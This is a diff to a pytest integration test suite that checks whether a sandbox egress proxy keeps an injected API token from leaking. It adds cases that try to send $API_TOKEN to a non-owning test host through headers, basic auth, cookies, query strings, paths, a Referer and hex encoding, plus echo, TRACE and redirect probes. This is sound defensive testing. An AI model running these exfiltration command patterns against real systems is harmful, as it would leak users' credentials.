@@ -1,7 +1,8 @@
-"""C4-C7: stealing or misusing the credential that egress adds."""
+"""C1-C7: stealing or misusing the credential that egress adds."""
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import os
 from pathlib import Path
@@ -19,6 +20,80 @@ if TYPE_CHECKING:
     from tests.support.outside import World
 
 pytestmark = [pytest.mark.integration, pytest.mark.attack]
+
+C1 = {
+    "authorization": '-H "Authorization: Bearer $API_TOKEN"',
+    "basic": '-u "me:$API_TOKEN"',
+    "other-header": '-H "X-Anything: $API_TOKEN"',
+    "cookie": '-H "Cookie: a=$API_TOKEN"',
+    "query": '-G --data-urlencode "key=$API_TOKEN"',
+    "path": "",
+    "referer": '-H "Referer: https://api.test/?key=$API_TOKEN"',
+    "hex": """-H "X-Hex: $(printf %s "$API_TOKEN" | od -An -tx1 | tr -d ' \\n')" """,
+}
+
+
+@pytest.mark.parametrize("name", C1)
+def test_c1_c2_a_placeholder_goes_to_its_own_host_or_nowhere(
+    bottle: RunningBottle, world: World, token: str, name: str
+) -> None:
+    marker = new_marker("c1")
+    path = f"{marker}/$API_TOKEN" if name == "path" else marker
+    answer = bottle.sh(f'curl -sS -m 5 {C1[name]} "https://allowed.test/{path}"').json()
+    assert answer["reason"] == "placeholder_misplaced"
+    assert TOKEN_REF in answer["message"]
+    assert world.reached(marker) == []
+    (line,) = bottle.denied(marker)
+    assert (line["reason"], line["host"]) == ("placeholder_misplaced", "allowed.test")
+    own = bottle.sh(f'curl -sS -m 5 {C1[name]} "https://api.test/{path}"')
+    assert own.json()["host"] == "api.test"
+    (seen,) = [seen for seen in world.records().requests if marker in seen.target]
+    assert seen.values("authorization") == [f"Bearer {token}"]
+    # It stands for nothing where it was written: only the route's own header is added.
+    assert seen.raw.count(token.encode()) == 1
+
+
+C3 = ["plain", "moved", "encoded", "pieces", "gzip", "unknown"]
+
+
+@pytest.mark.parametrize("host", ["echo.test", "query.test"])
+def test_c3_an_echo_never_shows_the_token(bottle: RunningBottle, world: World, token: str, host: str) -> None:
+    marker = new_marker("c3")
+    urls = " ".join(f"https://{host}/{kind}/{marker}?key=mine" for kind in C3)
+    got = bottle.sh(
+        f"curl -sS -i -m 5 -H 'Cookie: mine=1' -H 'Accept-Encoding: gzip, br' -H 'Range: bytes=0-9' {urls};"
+        f" curl -sS -i -m 5 -X TRACE https://{host}/{marker}"
+    )
+    seen = [seen for seen in world.records().requests if marker in seen.target]
+    assert len(seen) == len(C3)
+    assert all(one.raw.count(token.encode()) == 1 for one in seen)
+    assert all(b"key=mine" in one.raw for one in seen) is (host == "echo.test")
+    assert all(b"mine=1" in one.raw for one in seen) is (host == "echo.test")
+    everything = got.stdout + got.stderr
+    value = token.encode()
+    forms = (value, base64.b64encode(value)[4:-4], value.hex().encode(), value[::-1], value[7:])
+    assert [form for form in forms if form in everything] == []
+    assert everything.count(b"*" * len(value)) >= len(C3) - 1
+    assert b"response_unreadable" in everything
+    assert b"egress.no_trace" in everything
+    (line,) = [line for line in bottle.denied(marker) if line["reason"] == "response_unreadable"]
+    assert line["host"] == host
+    assert token not in bottle.audit_path.read_text()
+
+
+def test_c3_a_token_in_a_query_is_on_no_record_and_follows_no_redirect(
+    bottle: RunningBottle, world: World, token: str
+) -> None:
+    marker = new_marker("c3")
+    bottle.sh(f"curl -sS -L -m 5 -e ';auto' https://query.test/moved/{marker}")
+    seen = [seen for seen in world.records().requests if marker in seen.target]
+    assert [one.host for one in seen] == ["query.test", "allowed.test"]
+    assert token.encode() in seen[0].raw
+    assert token.encode() not in seen[1].raw
+    for line in bottle.decisions(marker):
+        assert "?" not in line["path"]
+    assert token not in bottle.audit_path.read_text() + bottle.log.read_text()
+
 
 C4 = {
     "none-of-its-own": "",
@@ -98,7 +173,7 @@ def test_c5_no_host_but_the_routes_own_ever_saw_the_token(
         f"curl -sS -m 5 https://api.test/{marker} https://allowed.test/{marker} https://x.wild.test/{marker}"
     )
     hosts = {seen.sni for seen in world.records().requests if token.encode() in seen.raw + seen.body}
-    assert hosts == {"api.test"}
+    assert hosts - {"echo.test", "query.test"} == {"api.test"}  # all three are its own
 
 
 def test_c6_the_token_is_nowhere_inside(bottle: RunningBottle, token: str) -> None:
